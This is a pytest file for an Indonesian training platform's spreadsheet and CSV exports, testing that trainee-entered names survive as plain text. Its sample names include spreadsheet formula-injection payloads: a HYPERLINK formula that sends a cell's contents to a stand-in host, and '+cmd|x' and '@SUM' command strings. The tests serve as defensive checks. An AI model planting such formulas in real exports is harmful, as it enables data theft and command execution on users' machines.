"""Every spreadsheet that leaves the product: whole rows, text as text, numbers as numbers.

The addresses come from the URL map and the writers from the sources, so a new one is met here.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from datetime import datetime

import openpyxl
import pytest

from courses.attendance.models import AttendanceMark, Source, Status
from courses.roster.reading import read_roster
from courses.trainings.models import Element, Enrolment, Role
from lms.config import PROJECT
from lms.db import db, transaction
from lms.exports import CSV, XLSX
from lms.people.services import add_person
from lms.tables import read_tables
from tests import factories
from tests.certificates import making
from tests.factories import DAY_1, WITA, World, wita

ROOT = "/pelatihan/<code>"
ROSTER, ROSTER_CSV = f"{ROOT}/peserta/unduh", f"{ROOT}/peserta/unduh.csv"
HISTORY_CSV = f"{ROOT}/hadir.csv"
REGISTER = f"{ROOT}/register.xlsx"
TEXTS = {ROSTER_CSV, HISTORY_CSV}
OF_PEOPLE = {
    ROSTER,
    REGISTER,
    f"{ROOT}/hadir.xlsx",
    f"{ROOT}/laporan-kerja/daftar.xlsx",
    f"{ROOT}/nilai.xlsx",
    f"{ROOT}/tes/analisis.xlsx",
}
BOOKS = OF_PEOPLE | {f"{ROOT}/evaluasi.xlsx", f"{ROOT}/materi/konfirmasi.xlsx"}
NO_TABLE = {f"{ROOT}/soal/unduh"}  # questions, as GIFT, Aiken or Moodle XML
WRITERS = {
    "certificates/register/reports.py",
    "courses/attendance/register_views.py",
    "courses/authoring/confirm_views.py",
    "courses/evaluation/views.py",
    "courses/roster/views.py",
    "courses/workreports/staff_views.py",
    "quizzes/analysis/reports.py",
    "quizzes/supervision/marks.py",
}
COMMAS, BROKEN = "Rahmad Hidayat, S.Sos., M.AP", 'Siti "Ani";\nRahmah, S.Pd.'
NAMES = (
    COMMAS,
    BROKEN,
    '=HYPERLINK("http://contoh.example/?x="&C2,"klik")',
    "@SUM(1+1)*cmd",
    "-2+3 Ilmi",
    "+cmd|x",
    "'=sudah berkutip",
)
PHONES = [f"+62812500010{place:02d}" for place in range(32)]
EIGHT = wita(DAY_1, "08.00")


@dataclass(frozen=True)
class Office:
    """The organiser's browser, and the addresses of this training."""

    citra: object
    code: str
    methods: dict[str, str]

    def take(self, rule: str) -> bytes:
        send = self.citra.post if self.methods[rule] == "POST" else self.citra.get
        answer = send(rule.replace("<code>", self.code))
        assert (answer.status_code, answer.mimetype) == (200, CSV if rule in TEXTS else XLSX)
        return answer.data


def methods_of(app) -> dict[str, str]:
    return {
        rule.rule: "GET" if "GET" in rule.methods else "POST"
        for rule in app.url_map.iter_rules()
        if re.search(r"(\.(xlsx|csv|ods)|/unduh)$", rule.rule)
    }


@pytest.fixture
def office(app, at, sign_in) -> Office:
    """34 trainees, of whom some have names that a table or a spreadsheet could misread."""
    at(making.AT)
    world = factories.make_world(app)
    making.prepare_training(app, world)
    named = people(app, world)
    making.complete(app, world, *named, unmarked=world.meetings[0])
    making.decide(app, world, *named)
    making.issue(app, world)
    return Office(sign_in(world.citra), world.code, methods_of(app))


def people(app, world: World) -> list[int]:
    named = []
    with app.app_context(), transaction():
        for place, phone in enumerate(PHONES):
            name = NAMES[place] if place < len(NAMES) else f"Peserta Contoh {place:03d}"
            person = add_person(name, f"peserta {place:03d}", at=factories.BEFORE)
            person.phone, person.nip = phone, f"1987031520100110{place:02d}"
            person.set_nik(f"63710101019090{place:02d}")
            seat = Enrolment(
                training_id=world.training_id, person_id=person.id, role=Role.TRAINEE,
                element=Element.PROVINCIAL_OFFICER, created_at=factories.BEFORE,
                institution='Dinas "Sosial"; Provinsi, Bidang A',
            )  # fmt: skip
            db.session.add(seat)
            db.session.flush()
            mark = AttendanceMark(
                meeting_id=world.meetings[0], enrolment_id=seat.id, sequence=1,
                status=Status.PRESENT, arrived_at=EIGHT, source=Source.HAND, reason=name,
                recorded_by_id=world.budi, recorded_at=EIGHT,
            )  # fmt: skip
            db.session.add(mark)
            if place < len(NAMES):
                named.append(seat.id)
    return named


def test_every_spreadsheet_is_known_here(app):
    assert set(methods_of(app)) - NO_TABLE == BOOKS | TEXTS
    folders = ("lms", "courses", "quizzes", "certificates")
    pack = PROJECT / "certificates" / "pack"  # the archive has its own test
    found = {
        str(path.relative_to(PROJECT))
        for folder in folders
        for path in (PROJECT / folder).rglob("*.py")
        if pack not in path.parents
        and re.search(r"import .*\b(xlsx_bytes|sheet_as_csv|csv_bytes)\b", path.read_text())
    }
    assert found == WRITERS


def read_csv(content: bytes) -> list[list[str]]:
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=";"))


@pytest.mark.parametrize("rule", sorted(TEXTS))
def test_csv_has_as_many_columns_in_every_row(office, rule):
    header, *lines = read_csv(office.take(rule))
    assert {len(line) for line in lines} == {len(header)}
    assert len(lines) >= 34
    told = {cell for line in lines for cell in line}
    assert {COMMAS, BROKEN} <= told
    assert not [cell for cell in told if cell.startswith(("=", "@", "+cmd", "-2"))]


def test_every_workbook_shows_what_people_typed_as_text(office):
    for rule in sorted(BOOKS):
        book = openpyxl.load_workbook(io.BytesIO(office.take(rule)))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n", "d"}, rule  # "f" is a formula
        assert not [cell for cell in cells if cell.hyperlink], rule
        told = {cell.value for cell in cells}
        if rule in OF_PEOPLE:
            assert set(NAMES) <= told, rule


def test_long_numbers_and_phones_are_text_in_the_workbook(office):
    sheet = openpyxl.load_workbook(io.BytesIO(office.take(ROSTER))).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    for number in ("198703152010011000", "••••••••••••9000", PHONES[0], "081200000001"):
        assert (cells[number].data_type, cells[number].number_format) == ("s", "@")


@pytest.mark.parametrize("rule", [ROSTER, ROSTER_CSV])
def test_list_of_34_that_is_read_again_has_the_same_names(office, rule):
    tables = read_tables(office.take(rule))
    found = read_roster(tables, today=DAY_1)
    names = {" ".join(name.split()) for name in NAMES} | {"Ani Rahmawati", "Agus Salim"}
    read = [person.name for person in found.participants]
    assert len(read) == 34
    assert names <= set(read)
    assert {person.phone for person in found.participants} >= {
        phone.replace("+62", "0") for phone in PHONES
    }


def test_times_in_csv_are_those_of_the_office_and_say_so(office):
    header, *lines = read_csv(office.take(HISTORY_CSV))
    column = header.index("Waktu (WITA)")
    (line,) = [
        each for each in lines if COMMAS in each and each[header.index("Pertemuan")] == "h1-pagi"
    ]
    assert line[column] == "2024-01-31 08:00"
    (table,) = read_tables(office.take(HISTORY_CSV))
    (again,) = [row.cells for row in table.rows if COMMAS in row.cells and "h1-pagi" in row.cells]
    moment = datetime.strptime(str(again[column]), "%Y-%m-%d %H:%M").replace(tzinfo=WITA)
    assert moment == EIGHT


def test_pages_offer_the_workbook_first_and_say_what_excel_does_to_csv(office):
    for page, csv_button in (("peserta", "Unduh CSV"), ("kehadiran", "Unduh riwayat (CSV)")):
        text = office.citra.get(f"/pelatihan/{office.code}/{page}").get_data(as_text=True)
        assert text.index("Unduh XLSX") < text.index(csv_button)
        assert "bila dibuka langsung di Excel, angka nol di depan hilang" in text


def test_phone_in_csv_keeps_its_zero_for_who_reads_it_as_text(office):
    header, *lines = read_csv(office.take(ROSTER_CSV))
    phones = [line[header.index("no_hp")] for line in lines]
    assert "081200000001" in phones
